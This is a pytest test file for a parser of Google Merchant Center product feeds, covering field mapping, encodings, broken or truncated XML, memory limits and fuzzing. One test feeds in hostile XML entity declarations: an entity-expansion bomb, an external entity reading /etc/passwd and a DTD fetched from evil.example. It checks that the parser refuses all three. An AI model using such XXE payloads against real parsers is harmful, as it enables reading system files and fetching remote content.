"""Feeds for Google Merchant Center, as shops write them and as they break."""

from __future__ import annotations

import gzip
import random
import tracemalloc
from contextlib import suppress
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from knowledge.catalog import CatalogError, Product, Record, Rejected, feed_xml, google
from knowledge.catalog.build import Context

OPEN = '<?xml version="1.0" encoding="UTF-8"?>\n<rss xmlns:g="http://base.google.com/ns/1.0" version="2.0">\n<channel>\n<title>Lamps &amp; more</title>\n'
CLOSE = "</channel>\n</rss>\n"
PLAIN = "<item>\n<g:id>{0}</g:id>\n<g:title>Lamp {0}</g:title>\n</item>\n"


def _read(path: Path, data: str | bytes, encoding: str = "utf-8") -> list[Record | Rejected]:
    path.write_bytes(data.encode(encoding) if isinstance(data, str) else data)
    return list(google.read(path, encoding, Context(str(path))))


def _item(tmp_path: Path, fields: str) -> Product:
    data = f"{OPEN}<item><g:id>l1</g:id><g:title>Desk lamp</g:title>{fields}</item>{CLOSE}"
    (product,) = _read(tmp_path / "feed.xml", data)
    assert isinstance(product, Product), product
    return product


def _row(tmp_path: Path, **cells: str) -> Product:
    names, values = zip(*({"id": "l1", "title": "Desk lamp"} | cells).items(), strict=True)
    (product,) = _read(tmp_path / "feed.tsv", "\t".join(names) + "\n" + "\t".join(values) + "\n")
    assert isinstance(product, Product), product
    return product


def _ids(records: list[Record | Rejected]) -> list[str]:
    return [record.id for record in records if isinstance(record, Product)]


def _refused(records: list[Record | Rejected]) -> list[tuple[int, str]]:
    return [(one.line, one.reason) for one in records if isinstance(one, Rejected)]


def test_an_item_becomes_a_product(tmp_path: Path) -> None:
    product = _item(
        tmp_path,
        """
        <title>Our best lamp!!!</title><link>https://shop.example/l1</link>
        <g:description>&lt;p&gt;Warm light.&lt;/p&gt;</g:description>
        <g:image_link>https://shop.example/l1.jpg</g:image_link>
        <g:price>1 255,00 CZK</g:price><g:sale_price>EUR 10</g:sale_price>
        <g:availability>in_stock</g:availability><g:brand>Lumen</g:brand>
        <g:gtin>4006381333931</g:gtin><g:mpn>LM-1</g:mpn><g:item_group_id>l</g:item_group_id>
        <g:color>Red/Blue</g:color><g:size>M</g:size><g:material>oak/steel</g:material>
        <g:gender>unisex</g:gender>
        <g:product_type>Home &gt; Bed, Bath &amp; Light &gt; Lamps / Desk</g:product_type>
        <g:product_type>Sale &gt; A &gt; B &gt; C</g:product_type>
        <g:google_product_category>4636</g:google_product_category>
        """.replace("EUR 10", "990 CZK"),
    )
    assert product == Product(
        id="l1",
        title="Desk lamp",
        description="Warm light.",
        brand="Lumen",
        category=("Home", "Bed, Bath & Light", "Lamps/Desk"),
        price=Decimal("1255.00"),
        sale_price=Decimal("990"),
        currency="CZK",
        availability="in_stock",
        color="Red/Blue",
        size="M",
        material="oak/steel",
        gender="unisex",
        item_group_id="l",
        gtin=("4006381333931",),
        mpn="LM-1",
        link="https://shop.example/l1",
        image_link="https://shop.example/l1.jpg",
        attributes={"Google product category": "4636"},
    )


@pytest.mark.parametrize(
    ("dates", "on_sale"),
    [
        ("2020-01-01T13:00-0800/2999-02-28T15:30-0800", True),
        ("2020-01-01/2999-01-01", True),
        ("2020-01-01T00:00:00+00:00 / 2999-01-01T00:00:00Z", True),
        ("2020-01-01/", True),
        ("2020-01-01T13:00Z/2020-02-01T13:00Z", False),
        ("2999-01-01/2999-02-01", False),
        ("next week", False),
        ("2020-13-45/2999-01-01", False),
    ],
)
def test_a_sale_price_holds_only_in_its_time(tmp_path: Path, dates: str, on_sale: bool) -> None:
    product = _item(
        tmp_path,
        f"<g:price>15.00 USD</g:price><g:sale_price>9.99 USD</g:sale_price>"
        f"<g:sale_price_effective_date>{dates}</g:sale_price_effective_date>",
    )
    assert product.price == Decimal("15.00")
    assert product.sale_price == (Decimal("9.99") if on_sale else None)


@pytest.mark.parametrize(
    ("written", "understood"),
    [
        ("in stock", "in_stock"),
        ("in_stock", "in_stock"),
        ("Out of Stock", "out_of_stock"),
        ("preorder", "preorder"),
        ("backorder", "backorder"),
        ("", None),
    ],
)
def test_availability(tmp_path: Path, written: str, understood: str | None) -> None:
    fields = f"<g:availability>{written}</g:availability>"
    fields += "<g:availability_date>2999-05-01</g:availability_date>"
    product = _item(tmp_path, fields)
    assert product.availability == understood
    assert product.attributes["Availability date"] == "2999-05-01"


def test_what_describes_the_product_comes_first_and_what_is_for_google_stays_away(
    tmp_path: Path,
) -> None:
    product = _item(
        tmp_path,
        """
        <g:custom_label_0>high margin</g:custom_label_0>
        <g:cost_of_goods_sold>3.00 USD</g:cost_of_goods_sold>
        <g:identifier_exists>no</g:identifier_exists><g:ads_redirect>https://x.example</g:ads_redirect>
        <g:shipping><g:country>US</g:country><g:service>Ground</g:service><g:price>5.00 USD</g:price></g:shipping>
        <g:condition>used</g:condition><g:age_group>adult</g:age_group><g:pattern>striped</g:pattern>
        <g:shipping_weight>1.2 kg</g:shipping_weight><g:unit_pricing_measure>750 ml</g:unit_pricing_measure>
        <g:size_system>EU</g:size_system><g:multipack>6</g:multipack><g:is_bundle>yes</g:is_bundle>
        <g:product_detail><g:section_name>Light</g:section_name><g:attribute_name>Colour temperature</g:attribute_name><g:attribute_value>2700 K</g:attribute_value></g:product_detail>
        <g:product_detail><g:attribute_name>Cable</g:attribute_name><g:attribute_value>2 m</g:attribute_value></g:product_detail>
        <g:product_highlight>Dims, slowly</g:product_highlight><g:product_highlight>No flicker</g:product_highlight>
        """,
    )
    assert list(product.attributes.items()) == [
        ("Colour temperature", "2700 K"),
        ("Cable", "2 m"),
        ("Highlights", ["Dims, slowly", "No flicker"]),
        ("Condition", "used"),
        ("Age group", "adult"),
        ("Pattern", "striped"),
        ("Shipping weight", "1.2 kg"),
        ("Unit pricing measure", "750 ml"),
        ("Size system", "EU"),
        ("Multipack", "6"),
        ("Bundle", True),
        ("Shipping", "US, Ground, 5.00 USD"),
    ]


@pytest.mark.parametrize(
    "data",
    [
        f"{OPEN}<item><g:id>l1</g:id><title>Best!</title><g:title>Lamp</g:title><link>https://a.example/l1</link><g:price>5 USD</g:price></item>{CLOSE}",
        f"{OPEN}<item><g:id>l1</g:id><g:title><![CDATA[Lamp]]></g:title><g:link>https://a.example/l1</g:link><media:title>No</media:title><g:price>5 USD</g:price></item>{CLOSE}",
        '<rss version="2.0" xmlns:google="http://base.google.com/ns/1.0"><channel><item><google:id>l1</google:id><google:title>Lamp</google:title><google:link>https://a.example/l1</google:link><google:price>5 USD</google:price></item></channel></rss>',
        "<rss><channel><item><id>l1</id><title>Lamp</title><link>https://a.example/l1</link><price>5 USD</price></item></channel></rss>",
        "<rss><channel><item><g:id>l1</g:id><g:title>Lamp</g:title><g:link>https://a.example/l1</g:link><g:price>5 USD</g:price></item></channel></rss>",
        '<rss><channel><item xmlns:q="http://base.google.com/ns/1.0"><q:id>l1</q:id><title>Lamp</title><link>https://a.example/l1</link><q:price>5 USD</q:price></item></channel></rss>',
        '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:g="http://base.google.com/ns/1.0"><title>Shop</title><link rel="self" href="https://a.example"/><entry><id>tag:a.example,1</id><g:id>l1</g:id><title>Lamp</title><link rel="edit" href="https://edit.example"/><link href="https://a.example/l1"/><g:price>5 USD</g:price></entry></feed>',
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:g="http://base.google.com/ns/1.0"><item rdf:about="l1"><g:id>l1</g:id><title>Lamp</title><link>https://a.example/l1</link><g:price>5 USD</g:price></item></rdf:RDF>',
    ],
    ids="RSS CDATA other-prefix no-prefix undeclared-prefix on-the-item Atom RSS-1".split(),
)
def test_every_dialect_says_the_same(tmp_path: Path, data: str) -> None:
    assert google.recognised(data)
    (product,) = _read(tmp_path / "feed.xml", data)
    assert isinstance(product, Product)
    assert (product.id, product.title, product.price) == ("l1", "Lamp", Decimal("5"))
    assert product.link == "https://a.example/l1"


def test_a_table_says_the_same_as_xml(tmp_path: Path) -> None:
    product = _row(
        tmp_path,
        **{
            "image link": "",
            "additional_image_link": "https://a.example/2.jpg,https://a.example/3.jpg",
            "price": "15.00 USD",
            "product_type": "Home > Bed, Bath > Lamps, Home > Sale",
            "google product category": "4636 - Home & Garden > Lighting > Lamps",
            "product_detail": 'Light:Colour temperature:2700 K,Light:Modes:warm, cold,Size:Shade:"9"""',
            "product_highlight": "Dims,No flicker",
            "shipping(country:service:price)": "US:Ground:5.00 USD,DE::4,90 EUR",
            "Condition [condition]": "new",
            "quantity": "3",
        },
    )
    assert product.image_link == "https://a.example/2.jpg"
    assert (product.price, product.currency, product.quantity) == (Decimal("15.00"), "USD", 3)
    assert product.category == ("Home", "Bed, Bath", "Lamps")
    assert product.attributes == {
        "Colour temperature": "2700 K",
        "Modes": "warm, cold",
        "Shade": '9"',
        "Highlights": ["Dims", "No flicker"],
        "Condition": "new",
        "Google product category": "4636 - Home & Garden > Lighting > Lamps",
        "Shipping": ["US, Ground, 5.00 USD", "DE, 4,90 EUR"],
    }


def test_a_google_category_stands_in_for_a_missing_product_type(tmp_path: Path) -> None:
    product = _row(tmp_path, google_product_category="Home & Garden > Lighting")
    assert product.category == ("Home & Garden", "Lighting")
    assert _row(tmp_path, google_product_category="594").category == ()


@pytest.mark.parametrize(
    ("head", "is_google"),
    [
        ("id,title,link,image_link,availability,price,condition\n1,a,", True),
        ("\ufeffID\tTitle\tLink\tImage link\tAvailability\tPrice\tshipping(country:price)\n", True),
        ("id,title,price,availability,gtin,description\n", False),
        ("id,name,price,link,image_link,availability,condition\n", False),
        ("<?xml version='1.0'?>\n<!-- made by hand -->\n<rss version='2.0'>", True),
        ("<feed xmlns='http://www.w3.org/2005/Atom'>", True),
        ("<!doctype html><html><body>RSS feed</body></html>", False),
        ('{"id": 1}', False),
        ("", False),
    ],
)
def test_recognises_feeds(head: str, is_google: bool) -> None:
    assert google.recognised(head) is is_google


def test_a_bad_item_is_named_by_its_line_and_the_others_are_kept(tmp_path: Path) -> None:
    bad = "<item>\n<g:title>No id</g:title>\n</item>\n<item>\n<g:id>c</g:id>\n<g:title>C</g:title>\n<g:price>-5 USD</g:price></item>\n"
    records = _read(
        tmp_path / "feed.xml", OPEN + PLAIN.format("a") + bad + PLAIN.format("d") + CLOSE
    )
    assert _ids(records) == ["a", "d"]
    assert [line for line, _ in _refused(records)] == [9, 12]
    assert "id is missing" in _refused(records)[0][1]
    assert "give what the product costs" in _refused(records)[1][1]


def test_a_bad_row_is_named_by_its_line(tmp_path: Path) -> None:
    records = _read(
        tmp_path / "feed.tsv", "id\ttitle\tprice\na\tA\t5 USD\nb\tB\tfree\nc\tC\t6 USD\n"
    )
    assert _ids(records) == ["a", "c"]
    assert _refused(records)[0][0] == 3


@pytest.mark.parametrize(
    "broken",
    [
        "<item>\n<g:id>b</g:id>\n<g:title>Black & white</g:title>\n</item>\n",
        "<item>\n<g:id>b</g:id>\n<g:title>Lamp</g:titel>\n</item>\n",
        "<item>\n<g:id>b</g:id>\n<g:title>5 < 6</g:title>\n</item>\n",
        "<item>\n<g:id>b</g:id>\n<g:title>Caf&eacute;</g:title>\n</item>\n",
    ],
)
@pytest.mark.parametrize("far", [0, 70_000])
def test_broken_xml_costs_only_the_item_where_it_is(tmp_path: Path, broken: str, far: int) -> None:
    data = OPEN + PLAIN.format("a") + " " * far + broken + PLAIN.format("c") + PLAIN.format("d")
    records = _read(tmp_path / "feed.xml", data + CLOSE)
    assert _ids(records) == ["a", "c", "d"]
    ((line, reason),) = _refused(records)
    assert line == 11
    assert "in the item of line 9" in reason
    assert "write & as &amp;" in reason
    assert data.split("\n")[line - 1].startswith("<g:title>")


def test_a_feed_that_is_cut_off_gives_what_it_holds(tmp_path: Path) -> None:
    data = OPEN + PLAIN.format("a") + PLAIN.format("b")[:-20]
    records = _read(tmp_path / "feed.xml", data)
    assert _ids(records) == ["a"]
    ((line, reason),) = _refused(records)
    assert line == data.count("\n") + 1
    assert "the feed ends in the item of line 9" in reason
    assert "export it again" in reason


def test_a_packed_feed_that_is_cut_off_gives_what_it_holds(tmp_path: Path) -> None:
    noise = random.Random(3)
    items = (PLAIN.format(f"{n}-{noise.random()}") for n in range(3000))
    packed = gzip.compress((OPEN + "".join(items) + CLOSE).encode())
    whole = _read(tmp_path / "a.xml.gz", packed)
    assert len(_ids(whole)) == len(whole) == 3000
    cut = _read(tmp_path / "b.xml.gz", packed[: len(packed) // 2])
    assert _ids(cut) == _ids(whole)[: len(cut) - 1]
    assert len(cut) > 1000
    ((line, reason),) = _refused(cut)
    assert abs(line - (4 + 4 * len(cut))) < 8
    assert "the file breaks off" in reason


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>',
    ],
)
def test_entities_are_refused(tmp_path: Path, doctype: str) -> None:
    data = f"{doctype}\n<rss><channel><item><id>&a;</id><title>x</title></item></channel></rss>"
    with pytest.raises(CatalogError, match=r":1: declares the entity '[ab]'.*without a DOCTYPE"):
        _read(tmp_path / "feed.xml", data)


def test_what_stands_before_the_first_tag_is_passed_over(tmp_path: Path) -> None:
    data = "\ufeff\n\n" + OPEN + "<item><g:title>x</g:title></item>" + PLAIN.format("a") + CLOSE
    records = _read(tmp_path / "feed.xml", data)
    assert _ids(records) == ["a"]
    assert _refused(records)[0][0] == 7


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1252"])
def test_a_feed_may_be_in_any_encoding(tmp_path: Path, encoding: str) -> None:
    data = OPEN.replace("UTF-8", "none-such") + PLAIN.format("é") + CLOSE
    assert _ids(_read(tmp_path / "feed.xml", data, encoding)) == ["é"]


def test_a_declared_old_encoding_beats_a_guess(tmp_path: Path) -> None:
    path = tmp_path / "feed.xml"
    path.write_bytes(
        (OPEN.replace("UTF-8", "iso-8859-2") + PLAIN.format("žluť") + CLOSE).encode("iso-8859-2")
    )
    assert _ids(list(google.read(path, "cp1252", Context(str(path))))) == ["žluť"]


def test_an_item_with_a_wrong_byte_is_left_out(tmp_path: Path) -> None:
    data = (
        OPEN + PLAIN.format("a")
    ).encode() + b"<item>\n<g:id>b</g:id><g:title>M\xf6bel</g:title></item>\n"
    records = _read(tmp_path / "feed.xml", data + (PLAIN.format("ü") + CLOSE).encode())
    assert _ids(records) == ["a", "ü"]
    ((line, reason),) = _refused(records)
    assert line == 9
    assert "byte 0xF6" in reason
    assert "save the file as UTF-8" in reason


def test_a_feed_in_one_endless_line_keeps_the_memory_small(tmp_path: Path) -> None:
    path = tmp_path / "feed.xml"
    item = PLAIN.format("{0}").replace("\n", "") + " " * 2000
    with path.open("w") as file:
        file.write(OPEN.replace("\n", ""))
        file.writelines(item.replace("{0}", str(n)) for n in range(5000))
        file.write(CLOSE.replace("\n", ""))
    tracemalloc.start()
    count = sum(isinstance(one, Product) for one in google.read(path, "utf-8", Context(str(path))))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert count == 5000
    assert path.stat().st_size > 10_000_000
    assert peak < 3_000_000


def test_what_would_fill_the_memory_is_refused(tmp_path: Path) -> None:
    long = "<item><g:id>b</g:id><g:title>" + "x" * (feed_xml.LONGEST_ITEM + 1) + "</g:title></item>"
    records = _read(tmp_path / "feed.xml", OPEN + long + PLAIN.format("a") + CLOSE)
    assert _ids(records) == ["a"]
    assert "shorten its texts" in _refused(records)[0][1]
    many = "<item>" + "<g:id/>" * (feed_xml.LONGEST_ITEM // 4 + 1) + "</item>"
    records = _read(tmp_path / "feed.xml", OPEN + many + PLAIN.format("a") + CLOSE)
    assert (_ids(records), len(records)) == (["a"], 2)
    for deep in ("<a>" * 1000, "<item>" + "<a>" * 1000):
        with pytest.raises(CatalogError, match="over 100 tags inside of each other"):
            _read(tmp_path / "feed.xml", OPEN + deep)
    comment = "<!--" + "x" * (feed_xml.LONGEST_TOKEN + 100_000)
    with pytest.raises(CatalogError, match="a tag or comment of over"):
        _read(tmp_path / "feed.xml", OPEN + comment)


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("a.xml", "<rss><channel></channel></rss>", "no whole <item> or <entry>"),
        ("a.xml", "<html><body>No feed</body></html>", "no whole <item> or <entry>"),
        ("a.xml", "<", "no whole <item> or <entry>"),
        ("a.tsv", "sku\tname\n1\tLamp\n", "no column id; a Google feed has one"),
    ],
)
def test_what_is_no_feed_is_refused(tmp_path: Path, name: str, data: str, reason: str) -> None:
    with pytest.raises(CatalogError, match=reason):
        _read(tmp_path / name, data)


PIECES = [b"<item>", b"</item>", b"&", b"<", b">", b"]]>", b'"', b"\n", b"\0", b"\xff", b"<!--"]
PIECES += [b"<!ENTITY a 'b'>", b"<?", b"9" * 400, b":", b"\xed\xa0\x80", b"<entry ", b"</rss>"]
RICH = (
    "<item><g:id>a</g:id><g:title><![CDATA[Lamp]]></g:title><g:price>15.00 USD</g:price>"
    "<g:sale_price_effective_date>2020-01-01T13:00-0800/2999-02-28</g:sale_price_effective_date>"
    "<g:product_detail><g:attribute_name>x</g:attribute_name></g:product_detail>"
    "<g:product_type>A &gt; B</g:product_type></item>\n<!-- c -->"
)
FEED = (OPEN + PLAIN.format("é") + RICH + PLAIN.format("b") + CLOSE).encode()
TABLE = (
    b"id\ttitle\tprice\tproduct_detail\tproduct_highlight\tshipping\n"
    b'1\tA\t5 USD\ta:b:"c",d:e:f\t"x,y",z\tUS::5 USD\n'
)
# Where to cut (as a share of the file), how many bytes to take out, and what to put in.
CUTS = st.lists(
    st.tuples(
        st.floats(0, 1),
        st.sampled_from([0, 0, 1, 5, 60]),
        st.sampled_from(PIECES) | st.binary(max_size=4),
    ),
    min_size=1,
    max_size=6,
)


def _cut(data: bytes, cuts: list[tuple[float, int, bytes]]) -> bytes:
    for place, length, piece in cuts:
        start = int(place * len(data))
        data = data[:start] + piece + data[start + length :]
    return data


@settings(
    max_examples=500,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    data=st.sampled_from([FEED, TABLE]), cuts=CUTS, encoding=st.sampled_from(["utf-8", "cp1252"])
)
def test_no_mutation_raises_anything_else(
    tmp_path: Path, data: bytes, cuts: list[tuple[float, int, bytes]], encoding: str
) -> None:
    path = tmp_path / "feed.xml"
    path.write_bytes(_cut(data, cuts))
    with suppress(CatalogError):
        for record in google.read(path, encoding, Context("feed.xml")):
            assert isinstance(record, (Product, Rejected))
